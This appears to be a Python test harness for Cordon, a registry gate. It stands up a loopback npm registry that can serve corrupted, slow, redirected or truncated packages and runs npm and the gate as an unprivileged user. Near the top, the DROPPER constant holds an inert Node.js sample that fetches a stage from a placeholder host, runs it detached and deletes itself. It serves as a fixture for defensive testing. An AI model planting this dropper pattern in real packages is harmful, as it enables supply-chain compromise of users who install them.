"""A registry of inert packages on loopback that also lies, dawdles and breaks off, and a gate before it. Shares no code with
Cordon but tests/range/pack.py, which packs archives."""
import datetime
import http.server
import itertools
import json
import os
import pathlib
import re
import shutil
import ssl
import subprocess
import sys
import threading
import time
import urllib.parse

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tests" / "range"))
import pack  # noqa: E402

CORDON = ROOT / "build" / "release" / "cordon"
NOBODY = 65534
HOUR, DAY = 3600, 86400
# What an archive may bring: never run here. It takes the environment, sends it away and removes itself, by its words.
DROPPER = """// inert
const https = require("https"), fs = require("fs"), cp = require("child_process");
https.get("https://files.example.invalid/stage", (answer) => {
  const out = fs.createWriteStream("/tmp/inert-stage");
  answer.pipe(out).on("finish", () => { cp.spawn("/tmp/inert-stage", [], { detached: true, stdio: "ignore" }).unref(); fs.unlinkSync(__filename); });
});
"""


def stamp(age):
    when = datetime.datetime.now(datetime.timezone.utc) - datetime.timedelta(seconds=age)
    return when.strftime("%Y-%m-%dT%H:%M:%S.000Z")


class Registry:
    """name -> version -> (age in seconds, files, what else the manifest says)."""

    def __init__(self, port=0, certificate=None):
        self.packages, self.tags, self.asked, self.faults, self.bodies = {}, {}, [], {}, []
        registry = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            disable_nagle_algorithm = True
            wbufsize = -1

            def log_message(self, *_):
                pass

            def do_GET(self):
                registry.asked.append((self.command, self.path, dict(self.headers)))
                registry.answer(self)

            do_PUT = do_HEAD = do_DELETE = do_GET

            def do_POST(self):
                registry.bodies.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
                registry.asked.append((self.command, self.path, dict(self.headers)))
                registry.send(self, 200, b"{}")

        class Server(http.server.ThreadingHTTPServer):
            daemon_threads, request_queue_size = True, 128

            def handle_error(self, *_):
                pass  # clients go away: they are killed, or it is their test

        self.server = Server(("127.0.0.1", port), Handler)
        if certificate is not None:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            context.load_cert_chain(certificate)
            self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        self.url = f"http{'' if certificate is None else 's'}://127.0.0.1:{self.server.server_port}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def publish(self, name, version, age, files, **manifest):
        body = {"name": name, "version": version, **manifest}
        self.packages.setdefault(name, {})[version] = (age, pack.tarball({"package.json": json.dumps(body), **files}), body)

    def document(self, name):
        versions, times = {}, {}
        for version, (age, archive, body) in self.packages[name].items():
            address = f"{self.url}{name}/-/{name.split('/')[-1]}-{version}.tgz"
            versions[version] = {**body, "dist": {"tarball": address, "integrity": pack.integrity(archive), "shasum": pack.shasum(archive)}}
            times[version] = stamp(age)
        latest = self.tags.get(name, list(versions)[-1])
        return {"_id": name, "name": name, "dist-tags": {"latest": latest}, "versions": versions,
                "time": {"created": min(times.values()), "modified": max(times.values()), **times}}

    def content(self, path):
        """The right bytes of a document or an archive; None where there is none."""
        name, is_archive, file = path.partition("/-/")
        if is_archive:
            version = file.removeprefix(name.split("/")[-1] + "-").removesuffix(".tgz")
            return self.packages[name][version][1] if version in self.packages.get(name, {}) else None
        return json.dumps(self.document(path)).encode() if path in self.packages else None

    def send(self, handler, status, body, kind="application/json"):
        handler.send_response(status)
        handler.send_header("Content-Type", kind)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        if handler.command != "HEAD":
            handler.wfile.write(body)

    def answer(self, handler):
        path = urllib.parse.unquote(urllib.parse.urlsplit(handler.path).path).lstrip("/")
        fault = self.faults.get(path)
        if callable(fault):
            return fault(handler, self.content(path))
        if fault == "slow":
            time.sleep(3)
        if fault == "page":
            return self.send(handler, 200, b"<html>Please sign in</html>", "text/html")
        if isinstance(fault, int):
            return self.send(handler, fault, b'{"error":"as told"}')
        if fault == "elsewhere":
            handler.send_response(302)
            handler.send_header("Location", "http://127.0.0.3:9/" + path)
            handler.send_header("Content-Length", "0")
            return handler.end_headers()
        body = self.content(path)
        if body is None:
            return self.send(handler, 404, b'{"error":"not found"}')
        if path.endswith(".tgz"):
            if fault == "lies":
                body = body[:-1] + bytes([body[-1] ^ 1])
            if fault == "short":
                handler.send_response(200)
                handler.send_header("Content-Length", str(len(body)))
                handler.end_headers()
                handler.wfile.write(body[: len(body) // 2])
                handler.close_connection = True
                return None
            return self.send(handler, 200, body, "application/octet-stream")
        return self.send(handler, 200, body)

    def was_asked(self, word):
        return [path for _, path, _ in self.asked if word in urllib.parse.unquote(path)]


class Gate:
    """`cordon gate` as a user without rights, until it is left."""

    def __init__(self, world, *options, registry=None, settings=None):
        self.world, self.folder = world, world.folder / f"gate-{world.next()}"
        config = world.folder / f"config-{world.next()}"
        (config / "cordon").mkdir(parents=True)
        if settings is not None:
            (config / "cordon" / "cordon.yaml").write_text(settings)
        listen = [] if "--listen" in options else ["--listen", "127.0.0.1:0"]
        self.words = ["gate", *listen, "--folder", str(self.folder), *options]
        if registry is not None and "--upstream" not in options:
            self.words += ["--upstream", registry.url]
        self.environment = {**world.environment, "XDG_CONFIG_HOME": str(config)}
        self.before_start = None  # done in the process that becomes the gate

    def command(self):
        return [str(self.world.program), *self.words]

    def credentials(self):
        return self.world.as_nobody

    def start(self):
        self.log = open(self.world.folder / f"log-{self.world.next()}", "w+", encoding="utf-8")
        self.process = subprocess.Popen(self.command(), env=self.environment, cwd=self.world.home, stdin=subprocess.DEVNULL,
                                        stdout=self.log, stderr=self.log, preexec_fn=self.before_start, **self.credentials())
        for _ in range(600):
            text = pathlib.Path(self.log.name).read_text(encoding="utf-8")
            if found := re.search(r"open at (https?://\S+?/)[, ]", text):
                self.url = found.group(1)
                return self
            if self.process.poll() is not None:
                break
            time.sleep(0.05)
        raise RuntimeError(f"the gate does not open: {text}")

    def stop(self):
        self.process.terminate()
        return self.process.wait(timeout=40)

    def __enter__(self):
        return self.start()

    def __exit__(self, *_):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        self.log.close()

    def text(self):
        return pathlib.Path(self.log.name).read_text(encoding="utf-8")

    def cordon(self, *words):
        return subprocess.run([str(self.world.program), "gate", *map(str, words), "--folder", str(self.folder)], env=self.environment,
                              cwd=self.world.home, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL, timeout=60,
                              **self.world.as_nobody)


class World:
    def __init__(self, tally, folder):
        self.tally, self.folder, self.numbers = tally, folder, itertools.count(1)
        self.home, self.program = folder / "home", folder / "cordon"
        self.home.mkdir()
        shutil.copy(CORDON, self.program)
        folder.chmod(0o777)
        self.home.chmod(0o777)
        self.as_nobody = {"user": NOBODY, "group": NOBODY, "extra_groups": []} if os.geteuid() == 0 else {}
        self.environment = {"PATH": os.environ["PATH"], "HOME": str(self.home), "npm_config_update_notifier": "false",
                            "npm_config_fund": "false", "npm_config_audit": "false", "npm_config_fetch_retries": "0"}

    def next(self):
        return next(self.numbers)

    def check(self, name, holds, why=""):
        if holds:
            self.tally.ok()
        else:
            self.tally.fail(name, str(why)[:2500] or "does not hold")

    def project(self, dependencies):
        folder = self.folder / f"project-{self.next()}"
        folder.mkdir()
        (folder / "package.json").write_text(json.dumps({"name": "shop", "version": "1.0.0", "dependencies": dependencies}))
        for path in (folder, folder / "package.json"):
            path.chmod(0o777)
        return folder

    def cordon(self, *words):
        return subprocess.run([str(self.program), *words], env=self.environment, cwd=self.home, capture_output=True, text=True, check=False,
                              stdin=subprocess.DEVNULL, timeout=60, **self.as_nobody)

    def npm(self, folder, registry, *words, **more):
        """npm of the machine, as a user without rights, with a cache of its own."""
        cache = self.folder / f"cache-{self.next()}"
        cache.mkdir()
        cache.chmod(0o777)
        environment = {**self.environment, "npm_config_cache": str(cache), "npm_config_registry": registry, **more}
        return subprocess.run(["npm", *words, "--ignore-scripts"], cwd=folder, env=environment, capture_output=True, text=True, check=False,
                              stdin=subprocess.DEVNULL, timeout=120, **self.as_nobody)
